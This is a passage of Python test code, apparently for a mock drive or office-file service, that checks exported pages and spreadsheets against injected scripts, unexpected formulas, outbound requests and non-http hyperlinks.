            assert page.evaluate("window.harmed") is None
            assert page.locator("script:not([src])").count() == 0
        page.close()
        assert [url for url in asked if not url.startswith((served.url, "data:"))] == []


def test_files_for_office_programs_hold_texts_as_texts(hostile: Hostile, tmp_path: Path) -> None:
    workbooks = Workbooks.open(hostile.folder / "book.sheet")
    site = Site(workbooks)
    key = workbooks.keys()[0]
    kinds = {"xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "csv": "text/csv"}
    found = {}
    for kind, media in kinds.items():
        answer = site.answer(Asked("GET", f"/drive/v3/files/{key}/export", [("mimeType", media)]), owner=True)
        assert answer.status == 200, answer.body[:300]
        found[kind] = answer.body
    workbooks.close()
    (tmp_path / "book.xlsx").write_bytes(found["xlsx"])
    cells = [cell for sheet in openpyxl.load_workbook(tmp_path / "book.xlsx") for row in sheet for cell in row]
    assert [
        cell.value for cell in cells if cell.data_type == "f" and not OURS.match(str(cell.value).replace(",", ";"))
    ] == []
    assert {cell.value for cell in cells if cell.data_type == "s"} >= {*SIGNS[:10]}
    links = {cell.hyperlink.target for cell in cells if cell.hyperlink and cell.hyperlink.target}
    assert [link for link in links if not link.startswith(("#", "http"))] == []
